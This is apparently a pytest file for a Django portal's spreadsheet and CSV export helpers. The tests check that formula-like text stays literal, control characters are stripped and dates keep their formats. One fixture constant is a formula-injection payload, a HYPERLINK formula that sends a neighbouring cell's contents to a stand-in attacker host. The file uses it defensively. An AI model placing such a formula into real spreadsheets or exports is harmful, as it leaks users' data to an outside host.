"""The spreadsheet building blocks every export shares: values stay values, never formulas."""

from datetime import date, datetime
from io import BytesIO

from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from portal.spreadsheets import (
    DATE_FORMAT,
    KRW_FORMAT,
    Column,
    add_sheet,
    csv_text,
    new_workbook,
    workbook_bytes,
)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def _reopened(columns, rows):
    workbook = new_workbook()
    add_sheet(workbook, "Sheet", columns, rows)
    return load_workbook(BytesIO(workbook_bytes(workbook)))["Sheet"]


def test_text_that_looks_like_a_formula_stays_text_in_a_workbook():
    sheet = _reopened([Column("Firm"), Column("Rent", 12, KRW_FORMAT)], [(HOSTILE, -330_000), ("+82 55", 0)])
    assert (sheet["A2"].value, sheet["A2"].data_type) == (HOSTILE, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("+82 55", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-330_000, "n")  # numbers stay numbers


def test_control_characters_are_dropped_instead_of_breaking_the_workbook():
    sheet = _reopened([Column("Firm")], [("(주)가온\x0bAI\x00",)])
    assert sheet["A2"].value == "(주)가온AI"


def test_lazy_labels_dates_and_moments_are_written_as_such():
    sheet = _reopened(
        [Column("State"), Column("Day"), Column("At")],
        [(gettext_lazy("Done"), date(2026, 10, 31), datetime(2026, 10, 31, 23, 30))],
    )
    assert sheet["A2"].value and sheet["B2"].number_format == DATE_FORMAT
    assert sheet["C2"].value == datetime(2026, 10, 31, 23, 30)
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_csv_cells_that_would_run_as_formulas_are_quoted_and_numbers_are_not():
    text = csv_text([Column("Firm"), Column("Amount")], [(HOSTILE, -5), ("@SUM(1)", 3), ("-minus", None)])
    assert text.startswith("\ufeffFirm,Amount\r\n")
    lines = text.splitlines()[1:]
    assert lines[0] == '"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",-5'
    assert lines[1:] == ["'@SUM(1),3", "'-minus,"]
